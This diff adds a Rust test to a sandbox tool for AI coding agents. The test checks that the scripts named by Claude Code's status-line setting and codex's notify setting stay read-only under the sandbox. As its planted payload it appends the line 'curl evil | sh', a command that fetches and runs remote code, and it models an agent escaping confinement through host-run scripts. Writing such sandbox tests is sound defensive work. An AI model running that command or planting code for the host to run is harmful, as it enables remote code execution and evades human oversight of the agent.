@@ -507,3 +507,79 @@ fn global_hooks_path_in_the_home() {
         }
     }
 }
+
+/// What an agent's own configuration names for the host to run later lies in the
+/// directory its profile makes writable: Claude Code's status line script, codex's
+/// `notify` program. The configuration is read-only; under sandpit the scripts it
+/// names are too, for a dynamic and a static writer, while the rest of the agent's
+/// directory stays writable (the control). Bare, the plant lands.
+#[test]
+fn scripts_an_agents_config_names_stay_read_only() {
+    let static_writer = {
+        let h = TestHome::new();
+        let p = build_probe(&h, "static_write", true);
+        let keep =
+            std::env::temp_dir().join(format!("sandpit-static-write-{}", std::process::id()));
+        std::fs::copy(&p, &keep).unwrap();
+        keep
+    };
+    for (profile, config, config_text, script) in [
+        (
+            "claude",
+            ".claude/settings.json",
+            "{\"statusLine\": {\"type\": \"command\", \"command\": \"bash ~/.claude/statusline.sh\"}}\n",
+            ".claude/statusline.sh",
+        ),
+        (
+            "codex",
+            ".codex/config.toml",
+            "notify = [\"python3\", \"$HOME/.codex/notify.py\"]\n",
+            ".codex/notify.py",
+        ),
+    ] {
+        for sandboxed in [false, true] {
+            let h = TestHome::new();
+            h.write(&h.home().join(config), config_text);
+            h.write(&h.home().join(script), ORIG);
+            let target = h.home().join(script);
+            let other = h.home().join(script).with_file_name("state.txt");
+            let stat = h.workspace().join("static_write");
+            std::fs::copy(&static_writer, &stat).unwrap();
+            h.give_to_test_user(&stat);
+            let sh = format!(
+                "echo 'curl evil | sh' >> {t}; ./static_write {t}; echo ok > {o}",
+                t = quoted(&target),
+                o = quoted(&other)
+            );
+            let out = if sandboxed {
+                h.sandpit()
+                    .args(["run", "--profile", profile, "--", "sh", "-c", &sh])
+                    .output()
+                    .unwrap()
+            } else {
+                h.command("sh").args(["-c", &sh]).output().unwrap()
+            };
+            let now = std::fs::read_to_string(&target).unwrap();
+            assert_eq!(now == ORIG, sandboxed, "{profile}: {now:?}\n{}", text(&out));
+            assert!(
+                std::fs::read_to_string(&other).is_ok_and(|s| s == "ok\n"),
+                "{profile}, sandboxed {sandboxed}: the agent's directory is not writable: {}",
+                text(&out)
+            );
+            if sandboxed {
+                let o = h
+                    .sandpit()
+                    .args(["explain", "--profile", profile, "write"])
+                    .arg(&target)
+                    .output()
+                    .unwrap();
+                let said = common::explained(&o);
+                assert!(
+                    said.starts_with("DENY") && said.contains(&format!("agent config (~/{config})")),
+                    "{said}"
+                );
+            }
+        }
+    }
+    let _ = std::fs::remove_file(static_writer);
+}
